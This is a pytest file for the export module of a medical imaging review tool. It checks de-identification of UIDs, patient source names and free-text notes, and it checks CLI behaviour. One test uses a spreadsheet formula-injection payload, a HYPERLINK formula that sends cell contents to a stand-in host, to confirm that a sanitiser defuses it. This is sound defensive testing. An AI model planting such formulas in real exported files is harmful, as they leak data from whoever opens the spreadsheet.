"""Exports: one row per finding plus study outcomes; de-identified unless asked."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from imaging_triage.cli import main as cli_main
from imaging_triage.review.export import (
    COLUMNS,
    DISCLAIMER,
    NOTE_COLUMNS,
    ExportFormat,
    collect_rows,
    export,
)
from imaging_triage.review.findings import (
    Confidence,
    Finding,
    FindingType,
    Laterality,
    Location,
    Outcome,
    ReviewStatus,
    Urgency,
)
from imaging_triage.review.store import ReviewStore

STUDY_UID = "1.2.826.0.1.3680043.8.498.424242"
SERIES_UID = "1.2.826.0.1.3680043.8.498.434343"
SOURCE = "ct/DOE_JOHN_19600101"


@pytest.fixture
def db(db_url: str) -> str:
    path = db_url
    store = ReviewStore(path)
    store.register_study("study_abc", study_uid=STUDY_UID, source=SOURCE, modality="CT")
    kept = store.add_finding(
        Finding(
            study_key="study_abc",
            type=FindingType.SDH,
            location=Location((-57.0, 9.0, 6.0), (76, 43, 21), SERIES_UID),
            laterality=Laterality.LEFT,
            confidence=Confidence.DEFINITE,
            note="left convexity",
            reviewer="dr a",
        )
    )
    gone = store.add_finding(
        Finding(
            study_key="study_abc",
            type=FindingType.SAH,
            location=Location((1.0, 2.0, 3.0), (1, 2, 3), SERIES_UID),
            reviewer="dr a",
        )
    )
    store.retract_finding(int(gone.id or 0), reviewer="dr b", reason="artefact")
    store.set_status(
        "study_abc",
        ReviewStatus.REVIEWED,
        reviewer="dr a",
        outcome=Outcome.SECONDARY,
        urgency=Urgency.CRITICAL,
    )
    assert kept.id == 1
    store.close()
    return path


def test_csv_export_is_deidentified_by_default(db: str, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    with ReviewStore(db) as store:
        summary = export(store, out)
    assert (summary.studies, summary.findings, summary.identified) == (1, 2, False)
    text = out.read_text()
    assert STUDY_UID not in text and SERIES_UID not in text and "DOE" not in text
    rows = list(csv.DictReader(out.open()))
    assert list(rows[0].keys()) == [c for c in COLUMNS if c not in NOTE_COLUMNS]
    study = [r for r in rows if r["record"] == "study"]
    findings = {r["finding_id"]: r for r in rows if r["record"] == "finding"}
    assert study[0]["outcome"] == "secondary_cause_suspected"
    assert study[0]["urgency"] == "critical"
    sdh = findings["1"]
    assert (sdh["type"], sdh["laterality"], sdh["confidence"]) == ("sdh", "left", "definite")
    assert (float(sdh["x_mm"]), float(sdh["y_mm"]), float(sdh["z_mm"])) == (-57.0, 9.0, 6.0)
    assert (sdh["i"], sdh["j"], sdh["k"]) == ("76", "43", "21")
    assert sdh["study_key"] == "study_abc" and sdh["series"].startswith("series_")
    assert sdh["retracted"] == "False"
    assert findings["2"]["retracted"] == "True"
    # free text is left out of a de-identified export
    assert "left convexity" not in text and "artefact" not in text


def test_identified_json_export_adds_uids(db: str, tmp_path: Path) -> None:
    out = tmp_path / "out.json"
    with ReviewStore(db) as store:
        export(store, out, ExportFormat.JSON, identified=True)
    doc = json.loads(out.read_text())
    assert doc["identified"] is True and doc["disclaimer"] == DISCLAIMER
    assert doc["studies"][0]["study_uid"] == STUDY_UID
    assert doc["studies"][0]["source"] == SOURCE
    assert doc["findings"][0]["series_uid"] == SERIES_UID
    assert doc["findings"][0]["type_label"] == "Subdural hemorrhage (SDH)"
    assert doc["notes_included"] is True  # identified exports carry the notes
    assert doc["findings"][0]["note"] == "left convexity"
    assert doc["findings"][1]["retraction_reason"] == "artefact"


def test_notes_only_when_asked(db: str, tmp_path: Path) -> None:
    with ReviewStore(db) as store:
        assert all("note" not in r and "retraction_reason" not in r for r in collect_rows(store))
        asked = {r.get("finding_id"): r for r in collect_rows(store, include_notes=True)}
        assert asked[1]["note"] == "left convexity" and asked[2]["retraction_reason"] == "artefact"
        assert "study_uid" not in asked[1]  # notes do not bring the UIDs along
        out = tmp_path / "with_notes.csv"
        summary = export(store, out, include_notes=True)
        assert summary.notes_included and not summary.identified
        rows = list(csv.DictReader(out.open()))
        assert list(rows[0].keys()) == list(COLUMNS)
        identified_no_notes = tmp_path / "identified.json"
        export(store, identified_no_notes, ExportFormat.JSON, identified=True, include_notes=False)
        doc = json.loads(identified_no_notes.read_text())
        assert doc["notes_included"] is False and "note" not in doc["findings"][0]


def test_export_command(db: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "export.json"
    assert cli_main(["export", "--db", str(db), "-o", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "2 finding row(s) and 1 study row(s)" in printed and "notes left out" in printed
    doc = json.loads(out.read_text())  # format taken from the extension
    assert doc["identified"] is False and len(doc["findings"]) == 2
    assert STUDY_UID not in out.read_text() and "left convexity" not in out.read_text()
    noted = tmp_path / "noted.json"
    assert cli_main(["export", "--db", str(db), "-o", str(noted), "--include-notes"]) == 0
    assert "with notes" in capsys.readouterr().out
    assert json.loads(noted.read_text())["findings"][0]["note"] == "left convexity"
    assert STUDY_UID not in noted.read_text()
    csv_out = tmp_path / "e.txt"
    assert cli_main(["export", "--db", str(db), "-o", str(csv_out), "--format", "csv"]) == 0
    assert csv_out.read_text().startswith("record,study_key,")


def test_export_command_without_database(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code = cli_main(["export", "--db", str(tmp_path / "absent.sqlite"), "-o", str(tmp_path / "o")])
    assert code == 4
    assert "no review database there" in capsys.readouterr().err
    assert not (tmp_path / "absent.sqlite").exists()


def test_csv_cells_cannot_run_as_spreadsheet_formulas() -> None:
    from imaging_triage.csvsafe import spreadsheet_safe

    assert spreadsheet_safe('=HYPERLINK("http://x/"&A2)') == '\'=HYPERLINK("http://x/"&A2)'
    assert spreadsheet_safe("@SUM(A1)") == "'@SUM(A1)"
    assert spreadsheet_safe("-12.5") == "-12.5"  # a number as text stays a number
    assert spreadsheet_safe(-3.0) == -3.0
    assert spreadsheet_safe("left frontal SDH") == "left frontal SDH"
